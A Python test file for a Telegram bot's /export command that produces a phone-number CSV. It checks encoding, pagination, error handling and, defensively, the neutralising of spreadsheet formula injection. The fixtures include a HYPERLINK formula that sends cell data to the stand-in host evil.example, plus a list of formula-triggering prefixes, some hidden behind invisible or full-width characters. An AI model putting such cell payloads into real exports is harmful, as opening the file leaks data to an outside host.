"""/export: all the chat's numbers as a CSV document that Excel opens with Cyrillic intact."""

from __future__ import annotations

import csv
import io
import re
import time

from tests.harness import only, texts

HEADER = ["id", "phoneX", "phoneB", "phoneA", "description", "created_at"]


def document(calls):
    sent = only(calls, "sendDocument")
    upload = sent.params["document"]
    return sent, upload.filename, upload.data


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


async def test_export_sends_a_csv_with_bom_header_and_every_number(harness, plusofon):
    tricky = 'Иван "Ваня" Петров, ООО «Ромашка»\nвторая строка'
    numbers = plusofon.seed(40, 20)
    numbers += plusofon.seed(40, 1, description=tricky)
    calls = await harness.send("/export")
    sent, name, data = document(calls)
    assert re.fullmatch(r"smart-numbers-\d{4}-\d{2}-\d{2}\.csv", name)
    assert data.startswith(b"\xef\xbb\xbf")
    table = rows(data)
    assert table[0] == HEADER
    assert [int(row[0]) for row in table[1:]] == [n["id"] for n in numbers]
    last = table[-1]
    assert last[1:5] == [numbers[-1]["phoneX"], numbers[-1]["phoneB"], numbers[-1]["phoneA"], tricky]
    assert last[5].startswith("2022-07-01 ")
    assert sent.params["chat_id"] == 100 and "21" in sent.params["caption"]
    assert not texts(calls)  # the document is the answer
    assert plusofon.count("GET") == 2


async def test_export_of_10000_numbers_reads_each_page_once(harness, plusofon):
    plusofon.seed(40, 9_999)
    plusofon.seed(40, 1, description="Ёлка, «склад» \"Север\"")
    started = time.monotonic()
    _, _, data = document(await harness.send("/export"))
    assert time.monotonic() - started < 10
    read = [int(r.query["page"]) for r in plusofon.requests]
    # the check (pages 1 and 667), then each page once, and page 1 (the count) and 667 (the anchor) once more
    assert sorted(read[2:]) == sorted([1, 667, *range(1, 668)])
    assert data.startswith("\ufeff".encode()) and data.count(b"\r\n") == 10_001
    table = rows(data)
    assert len(table) == 10_001 and table[0] == HEADER
    assert table[-1][4] == "Ёлка, «склад» \"Север\""


async def test_export_of_an_empty_account_is_a_message_not_a_document(harness, plusofon):
    calls = await harness.send("/export")
    assert not harness.tg.calls_of("sendDocument")
    assert "выгружать нечего" in only(calls, "sendMessage").params["text"]
    assert plusofon.count("GET") == 1


async def test_export_errors_reach_the_user(harness, plusofon):
    plusofon.seed(40, 40)
    plusofon.inject("html500", method="GET", times=3)
    calls = await harness.send("/export")
    assert not harness.tg.calls_of("sendDocument")
    assert "ошибкой" in only(calls, "sendMessage").params["text"]


async def test_after_an_export_find_costs_only_the_check(harness, plusofon):
    plusofon.seed(40, 40, description="Склад")
    await harness.send("/export")
    plusofon.clear_requests()
    assert "Найдено: 40" in only(await harness.send("/find склад"), "sendMessage").params["text"]
    assert sorted(int(r.query["page"]) for r in plusofon.requests) == [1, 3]


async def test_english_caption(harness, plusofon):
    plusofon.seed(40, 3)
    sent, _, _ = document(await harness.send("/export", language_code="en"))
    assert sent.params["caption"].startswith("Smart numbers: 3")


async def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(harness, plusofon):
    """Issue 11, item 2: every text column, every dangerous first character; read back as the user gets it."""
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"Открыть")'
    starts = [evil, "+1+2", "-2+3", "@SUM(A1)", "\tтаб", "\rвозврат", "обычное = описание"]
    for description in starts:
        plusofon.seed(40, 1, description=description)
    plusofon.seed(40, 1, phone_b="=1+1", description="телефон-формула")
    table = rows(document(await harness.send("/export"))[2])
    described = [row[4] for row in table[1:]]
    assert described[:-1] == ["'" + text for text in starts[:-1]] + [starts[-1]]
    phone_b = table[-1][2]
    assert phone_b == "'=1+1"
    for row in table[1:]:
        for cell in row[1:5]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


async def test_formulas_behind_spaces_line_breaks_invisible_or_full_width_characters_are_neutralised(harness,
                                                                                                       plusofon):
    """Issue 22, item 13: what a spreadsheet skips or folds before it decides that a cell is a formula."""
    starts = [" =1+1", "\n=1+1", "\u00a0+1", "\u200b=1+1", "\ufeff@SUM(A1)", "\u200b \u2060-1", "＝1+1", "＋1",
              "－1", "＠SUM(A1)", "﹦1+1"]
    for description in starts:
        plusofon.seed(40, 1, description=description)
    plusofon.seed(40, 1, description=" обычное = описание")
    table = rows(document(await harness.send("/export"))[2])
    assert [row[4] for row in table[1:]] == ["'" + text for text in starts] + [" обычное = описание"]
